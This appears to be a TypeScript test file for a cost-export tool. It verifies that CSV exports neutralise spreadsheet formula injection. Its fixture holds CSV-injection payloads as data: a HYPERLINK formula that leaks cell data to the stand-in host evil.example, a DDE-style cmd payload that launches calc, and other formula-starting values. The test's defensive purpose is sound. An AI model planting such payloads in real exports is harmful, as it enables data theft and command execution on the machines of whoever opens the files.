import { test } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { parseCsv } from '../src/core/index.js';
import { exportStandardOrgFocus, inTempDir } from './_allocation-fixture.js';

// Issue 15, class 11: exports are formula-safe. A cost export is attacker-controlled text (resource names,
// descriptions, tags); a spreadsheet opening Tally's CSV must show it as text, never run it.
const FORMULA_START = /^[\s\0]*[=+\-@|%\uFF1D\uFF0B\uFF0D\uFF20]|^[\t\r\0]/;
const PLAIN_NUMBER = /^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$/;

test('exports are formula-safe: export focus neutralises formula cells and keeps negative amounts numeric', async () => {
  await inTempDir('tally-formula-', async (dir) => {
    const { out, result: r } = await exportStandardOrgFocus(dir, [
      {
        ChargePeriodStart: '2026-01-05T00:00:00Z',
        x_AiService: 'openai',
        ResourceName: '=HYPERLINK("http://evil.example/?x="&A1)',
        ChargeDescription: '\uFF1Dcmd|" /C calc"!A0',
        SubAccountName: '@SUM(1+1)',
        RegionName: '\t=1+1',
        EffectiveCost: '-1.25',
        ConsumedQuantity: null,
        ConsumedUnit: null,
      },
    ]);
    assert.equal(r.code, 0, r.stderr);
    const [header, ...rows] = parseCsv(readFileSync(out, 'utf8'));
    for (const row of rows)
      for (const [i, cell] of row.entries())
        assert.ok(
          !FORMULA_START.test(cell) || PLAIN_NUMBER.test(cell),
          `column ${header![i]} starts a formula: ${JSON.stringify(cell)}`,
        );
    const col = (name: string) => rows.map((x) => x[header!.indexOf(name)]);
    assert.ok(col('ResourceName').includes(`'=HYPERLINK("http://evil.example/?x="&A1)`));
    assert.ok(col('ChargeDescription').includes(`'\uFF1Dcmd|" /C calc"!A0`));
    // The credit is split across consumers: its pieces stay plain negative numbers that add up to -1.25.
    const credit = rows.filter((x) => x[header!.indexOf('ResourceName')]!.includes('HYPERLINK'));
    const total = credit.reduce(
      (a, x) => a + BigInt(Math.round(Number(x[header!.indexOf('EffectiveCost')]) * 1e9)),
      0n,
    );
    assert.equal(total, -1_250_000_000n);
    assert.ok(credit.every((x) => PLAIN_NUMBER.test(x[header!.indexOf('EffectiveCost')]!)));
  });
});
